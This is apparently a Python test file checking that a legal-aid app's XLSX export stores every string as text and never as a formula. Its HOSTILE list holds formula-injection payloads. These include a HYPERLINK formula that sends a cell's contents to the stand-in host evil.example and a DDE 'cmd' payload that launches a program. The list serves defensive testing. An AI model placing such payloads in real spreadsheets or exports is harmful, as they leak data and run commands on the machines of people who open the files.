"""XLSX exports write every text as text: read the file back and find no formula."""

import zipfile
from io import BytesIO

import openpyxl
from django.utils.translation import gettext_lazy

from legalaid.exports import xlsx_bytes, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?p="&G2,"点击")',
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _sheet(data: bytes):
    return openpyxl.load_workbook(BytesIO(data)).active


def test_strings_are_written_as_text_never_formulas():
    data = xlsx_bytes("访客", ["姓名", "电话"], [[value, value] for value in HOSTILE])
    sheet = _sheet(data)
    values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    # Shown as typed (XML stores a carriage return as a line feed).
    assert values == [value.replace("\r", "\n") for value in HOSTILE]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type == "s"
            assert cell.quotePrefix  # editing the cell in Excel keeps it text
    xml = zipfile.ZipFile(BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_numbers_dates_and_plain_text_keep_their_types():
    from datetime import date
    from decimal import Decimal

    data = xlsx_bytes("t", ["a", "b", "c", "d"], [[3, Decimal("12.50"), date(2026, 3, 2), "普通文本"]])
    row = next(_sheet(data).iter_rows(min_row=2))
    assert row[0].value == 3 and row[0].data_type == "n"
    assert row[1].value == 12.5
    assert row[2].is_date
    assert row[3].value == "普通文本" and not row[3].quotePrefix


def test_lazy_labels_and_header_written_as_text():
    data = xlsx_bytes("t", [gettext_lazy("姓名")], [[gettext_lazy("男")]])
    sheet = _sheet(data)
    assert sheet["A1"].value == "姓名" and sheet["A2"].value == "男"


def test_response_is_an_attachment():
    response = xlsx_response("访客.xlsx", "访客", ["a"], [["=1"]])
    assert response["Content-Disposition"].startswith("attachment;")
    assert _sheet(response.content)["A2"].data_type == "s"
